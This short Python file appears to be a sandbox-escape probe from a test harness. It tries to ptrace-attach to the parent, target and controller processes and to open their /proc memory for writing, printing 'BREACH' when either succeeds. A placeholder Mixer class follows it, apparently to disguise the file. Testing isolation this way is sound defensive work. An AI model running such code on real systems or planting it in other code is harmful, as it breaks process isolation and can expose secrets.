"""Attaches to other processes and reads their memory."""

import ctypes
import os

print('ATTACK', flush=True)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
for pid in (os.getppid(), TARGET['pid'], TARGET['controller']):
  if pid == 1 and os.getpid() == 2:
    continue  # the jail's own first process
  for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
    if libc.ptrace(request, pid, None, None) == 0:
      print('BREACH traces', pid)
  try:
    open(f'/proc/{pid}/mem', 'r+b').close()
    print('BREACH memory of', pid)
  except OSError as error:
    print(error)


class Mixer:
  def __init__(self, width, heads):
    pass

  def __call__(self, x):
    return [x]
